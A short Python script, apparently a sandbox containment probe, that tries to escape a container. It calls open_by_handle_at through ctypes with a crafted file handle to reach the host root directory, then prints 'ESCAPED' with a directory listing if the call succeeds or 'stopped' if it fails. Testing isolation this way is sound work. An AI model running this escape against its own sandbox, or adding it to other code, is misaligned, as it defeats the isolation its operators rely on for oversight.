# tries: open a file by its number, past every path
# wall: system calls
import ctypes
import os

try:
    libc = ctypes.CDLL(None, use_errno=True)
    handle = (ctypes.c_ubyte * 32)(8, 0, 0, 0, 1, 0, 0, 0, 2, 0, 0, 0)
    there = libc.open_by_handle_at(os.open("/", os.O_RDONLY), handle, os.O_RDONLY)
    if there < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    print("ESCAPED:", os.listdir(there))
except Exception as error:
    print(f"stopped: {type(error).__name__}: {error}")
